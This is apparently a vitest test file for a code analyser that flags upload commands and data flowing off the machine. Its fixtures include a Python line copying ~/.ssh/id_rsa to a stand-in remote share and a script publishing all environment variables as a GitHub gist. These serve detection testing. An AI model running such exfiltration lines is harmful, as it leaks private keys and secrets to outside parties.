import { expect, test } from 'vitest';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { flowsOut } from '../../src/core/facts/flows-out.js';
import { read } from './reading.js';

test.each([
  'gh gist create --public /tmp/bed.json', 'gh release upload v1 bed.json', 'scp -q /tmp/bed up@f.example.invalid:/in/', 'rsync -a /home/rose/ f.example.invalid:beds', 'aws s3 cp /tmp/bed s3://garden/', 'gsutil -m cp -r /tmp/bed gs://garden/', 'rclone copy /tmp/bed shed:', 'hf upload garden/beds /tmp/bed',
])('a file goes along with %s', (line) => {
  expect(commandTraits(line).has('uploads')).toBe(true);
});

test.each(['gh gist list', 'gh release create v1', 'scp up@f.example.invalid:/out/bed /tmp/bed', 'aws s3 cp s3://garden/bed /tmp/bed', 'gsutil cp gs://garden/bed /tmp/bed', 'rsync -a /home/rose/ /backup/'])('no file goes along with %s', (line) => {
  expect(commandTraits(line).has('uploads')).toBe(false);
});

test.each([
  ['another machine', String.raw`r"\\f.example.invalid\in\k"`, ['import']],
  ['a folder of this one', String.raw`r"\\?\C:\in\k"`, []],
])('a file with secrets that is copied to %s', async (_, into, when) => {
  const { facts } = await read(`import os, shutil\nshutil.copy(os.path.expanduser("~/.ssh/id_rsa"), ${into})\n`);
  expect(facts && flowsOut(facts, ['credentials']).map((flow) => flow.when)).toEqual(when);
});

test('what is written to a file that a program then publishes is on its way out', async () => {
  const { facts } = await read('import json, os, subprocess, tempfile\nwith tempfile.NamedTemporaryFile("w", delete=False) as bed:\n    json.dump(dict(os.environ), bed)\nsubprocess.run(["gh", "gist", "create", bed.name])\n');
  expect(facts && flowsOut(facts, ['environment']).map(({ when }) => when)).toEqual(['import']);
});
